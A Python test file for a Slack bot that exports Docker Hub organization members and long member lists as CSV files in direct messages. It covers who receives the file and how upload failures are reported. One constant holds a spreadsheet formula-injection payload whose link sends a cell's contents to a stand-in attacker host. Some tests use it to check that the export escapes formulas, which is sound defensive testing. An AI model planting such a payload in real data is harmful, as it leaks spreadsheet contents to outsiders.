"""Files: the members' export and long lists arrive as CSV in the direct messages, and no cell of them does harm."""

import csv
import io
from pathlib import Path

import pytest

from sandbox.hub.wire.faults import Respond
from sandbox.slack import words_of
from sandbox.slack.workspace.state import File
from tests.flows.conftest import OpenHouse
from tests.flows.house import House
from tests.flows.steps import refusal, write_policy

AT_ONCE = '{name: reading, operations: ["*"], kinds: [read], approvals: 0}'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ann")'


@pytest.fixture
async def readable(open_house: OpenHouse, tmp_path: Path) -> House:
    """A house in which everybody may read everything."""
    return await open_house(policy=write_policy(tmp_path, AT_ONCE))


async def file_of(house: House) -> File:
    """The one file that has been shared."""
    await house.slack.wait_for_call("files.completeUploadExternal")
    (file,) = [one for one in house.slack.workspace.files.values() if one.completed]
    return file


def read(file: File) -> list[list[str]]:
    """The file's cells."""
    assert file.content is not None
    return list(csv.reader(io.StringIO(file.content.decode())))


async def test_the_export_of_the_members_is_a_file_for_its_requester_alone(readable: House) -> None:
    house = readable
    await refusal(house.ann, "/hub member export", "Members of acme", "pending invites")
    file = await file_of(house)
    assert (file.name, file.channels) == ("acme-members.csv", [house.ann.direct_channel])
    rows = read(file)
    organization = house.hub.state.organizations["acme"]
    assert rows[0][:3] == ["Name", "Username", "Email"]
    assert len(rows) == 1 + len(organization.members) + len(organization.invites)
    assert house.slack.violations == []


async def test_no_name_in_the_export_is_a_formula(readable: House) -> None:
    house = readable
    house.hub.state.accounts["annberg"].full_name = FORMULA
    await refusal(house.ann, "/hub member export", "Members of acme")
    assert [row[0] for row in read(await file_of(house)) if row[1] == "annberg"] == [f"'{FORMULA}"]


async def test_all_of_a_long_list_is_a_file(readable: House) -> None:
    house = readable
    house.hub.state.accounts["annberg"].full_name = FORMULA
    await house.ann.command("/hub member list --type member")
    shown = await house.ann.wait_for_ephemeral("1 to 20 shown")
    await house.ann.click(shown, "As a file")
    await house.ann.wait_for_ephemeral("The file is in your messages with Hubwarden.")
    file = await file_of(house)
    assert (file.name, file.channels) == ("member.list.csv", [house.ann.direct_channel])
    rows = read(file)
    members = house.hub.state.organizations["acme"].members
    assert sorted(row[0] for row in rows[1:]) == sorted(members)
    assert [row[1] for row in rows if row[0] == "annberg"] == [f"'{FORMULA}"]
    assert house.slack.violations == []


async def test_a_short_list_has_no_button_for_a_file(readable: House) -> None:
    await readable.ann.command("/hub invite list")
    assert "As a file" not in words_of(await readable.ann.wait_for_ephemeral("3 in all."))


TROUBLE = [
    ("files.getUploadURLExternal", {"error": "missing_scope"}, "missing_scope"),
    ("files.completeUploadExternal", {"error": "not_in_channel"}, "not_in_channel"),
    ("conversations.open", {"error": "user_disabled"}, "user_disabled"),
    ("upload", {"status": 500, "body": "no"}, "SlackRequestError"),
    ("upload", {"drop": True, "times": 9}, ""),
]


@pytest.mark.parametrize(("method", "fault", "code"), TROUBLE)
async def test_a_file_that_slack_does_not_take_is_a_sentence(
    readable: House, method: str, fault: dict[str, object], code: str
) -> None:
    house = readable
    house.slack.faults.add(method, **fault)  # type: ignore[arg-type]
    await refusal(house.ann, "/hub member export", "Slack did not take the file acme-members.csv", code)
    assert all(not one.completed for one in house.slack.workspace.files.values())


async def test_an_export_that_docker_hub_refuses_is_a_sentence_and_no_file(readable: House) -> None:
    house = readable
    house.hub.faults.add("GET", "/v2/orgs/acme/members/export", Respond(403, {"detail": "owners only"}))
    await refusal(house.ann, "/hub member export", "owners only")
    assert house.slack.workspace.files == {}
